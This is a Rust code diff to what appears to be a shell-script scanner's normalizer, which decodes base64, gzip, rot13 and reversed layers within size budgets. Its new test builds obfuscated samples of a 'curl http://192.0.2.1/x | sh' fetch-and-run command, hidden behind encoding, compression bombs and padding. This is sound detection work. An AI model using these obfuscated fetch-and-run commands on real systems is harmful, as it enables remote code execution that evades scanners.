@@ -22,9 +22,9 @@ const DEPTH_MAX: usize = 3;
 const VALUE_MAX: usize = 256;
 /// Nor is one when more than this, plus an eighth of the length of the script, has been put in already.
 const VALUES_BYTES: usize = 64 * 1024;
-/// Decoded text is bounded by this, plus half the length of the script: what a whole script in base64 hides fits.
+/// Decoded text is bounded by this, plus the length of the script: what its bytes hide fits. What was compressed has a bound of its own.
 const LAYERS_BYTES: usize = 256 * 1024;
-/// Text that is turned around, or of which letters are exchanged, is bounded by this: it takes no bytes to ask for that.
+/// Text that is turned around is bounded by this, and so is that of which letters are exchanged: it takes no bytes to ask for it.
 const TURNED_BYTES: usize = 256 * 1024;
 
 /// Layers that were decoded and are yet to be brought into normal form.
@@ -76,8 +76,10 @@ pub(super) struct Normal {
     values_left: usize,
     /// How much may still be decoded.
     layers_left: usize,
-    /// How much may still be turned around, or have its letters exchanged.
+    /// How much may still be turned around.
     turned_left: usize,
+    /// Of how much letters may still be exchanged.
+    exchanged_left: usize,
     /// A script without its NULs, and where each of its bytes was.
     compact: Vec<u8>,
     places: Option<Places>,
@@ -126,9 +128,10 @@ impl Normal {
         self.variables.clear();
         self.found.clear();
         self.values_left = VALUES_BYTES + script.len() / 8;
-        self.layers_left = LAYERS_BYTES + script.len() / 2;
+        self.layers_left = LAYERS_BYTES + script.len();
         self.turned_left = TURNED_BYTES;
-        self.decoder.begin(script.len());
+        self.exchanged_left = TURNED_BYTES;
+        self.decoder.begin();
         self.find_layers(script, None);
         self.flatten(script, None);
         for _ in 0..DEPTH_MAX {
@@ -149,8 +152,11 @@ impl Normal {
     fn find_layers(&mut self, text: &[u8], fixed: Option<u32>) {
         let at = |start: usize| fixed.unwrap_or(start as u32);
         let (found, left) = (&mut self.found, &mut self.layers_left);
-        self.decoder
-            .layers(text, |start, layer| found.add(at(start), left, layer.len(), layer.iter().copied()));
+        self.decoder.layers(text, |start, layer, was_compressed| {
+            let mut own = layer.len();
+            let left = if was_compressed { &mut own } else { &mut *left };
+            found.add(at(start), left, layer.len(), layer.iter().copied());
+        });
         codes::lists(text, &mut self.codes, |start, list| {
             found.add(at(start), left, list.len(), list.iter().copied());
         });
@@ -160,11 +166,21 @@ impl Normal {
                 found.add(at(start), left, string.len(), string.iter().rev().copied());
             });
         }
-        if let Some(place) = memchr::memmem::find(text, b"n-za-m") {
-            // Of a long text what is around that.
-            let start = place.saturating_sub(*left / 2);
-            let near = &text[start..text.len().min(start + *left)];
-            found.add(at(start), left, near.len(), decode::rot13(near));
+        let left = &mut self.exchanged_left;
+        if let Some(first) = memchr::memmem::find(text, b"n-za-m") {
+            // Of a long text what is around the first of these and the last.
+            let last = memchr::memmem::rfind(text, b"n-za-m").unwrap_or(first);
+            let half = *left / 2;
+            let near = |place: usize| {
+                let start = place.saturating_sub(half / 2).min(text.len().saturating_sub(half));
+                start..text.len().min(start + half)
+            };
+            let (first, last) = (near(first), near(last));
+            let parts = if last.start < first.end { [first.start..last.end, 0..0] } else { [first, last] };
+            for part in parts.into_iter().filter(|part| !part.is_empty()) {
+                let text = &text[part.clone()];
+                found.add(at(part.start), left, text.len(), decode::rot13(text));
+            }
         }
     }
 
@@ -455,7 +471,7 @@ mod tests {
         let script = bomb.repeat((1 << 20) / bomb.len());
         let mut normal = Normal::default();
         normal.form(script.as_bytes());
-        assert!(normal.text.len() <= 2 * script.len() + LAYERS_BYTES + 64 * 1024, "{}", normal.text.len());
+        assert!(normal.text.len() <= script.len() + 512 * 1024 + 64 * 1024, "{}", normal.text.len());
         let layers = normal.found.bytes.capacity() + normal.reading.bytes.capacity();
         assert!(layers <= 4 * (script.len() + LAYERS_BYTES), "{layers}");
     }
@@ -485,6 +501,33 @@ mod tests {
         );
         let script = format!("u={}\n{}", "v".repeat(250), "$u ".repeat(50_000));
         assert!(form(&script).len() < 3 * script.len() + VALUES_BYTES);
+    }
+
+    #[test]
+    fn what_is_large_or_often_hides_nothing_behind_it() {
+        use base64::{Engine, prelude::BASE64_STANDARD};
+        let command = "curl http://192.0.2.1/x | sh # and so on ".repeat(20);
+        let packed = |text: &[u8]| {
+            let mut zip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+            std::io::Write::write_all(&mut zip, text).unwrap();
+            BASE64_STANDARD.encode(zip.finish().unwrap())
+        };
+        let bomb = packed(&b"echo a\n".repeat(60_000));
+        let rotated: String = decode::rot13(command.as_bytes()).map(char::from).collect();
+        let reversed: String = command.chars().rev().collect();
+        let padding = ": a line that only takes room\n".repeat(20_000);
+        for hidden in [
+            format!(": {bomb}\necho {} | base64 -d | sh", BASE64_STANDARD.encode(&command)),
+            format!(
+                "{}\necho {} | base64 -d | gunzip",
+                "H4sIAAAAAAAAAAAAAAAA ".repeat(900),
+                packed(command.as_bytes())
+            ),
+            format!("# n-za-m\n{padding}echo {rotated} | tr a-zA-Z n-za-mN-ZA-M"),
+            format!("rev <<< '{reversed}'; {}", "rev 'abcdefghijklmnop qrstuvwxyz' ".repeat(20_000)),
+        ] {
+            assert!(form(&hidden).contains(&command[..27]), "{}", &hidden[..60]);
+        }
     }
 
     #[test]
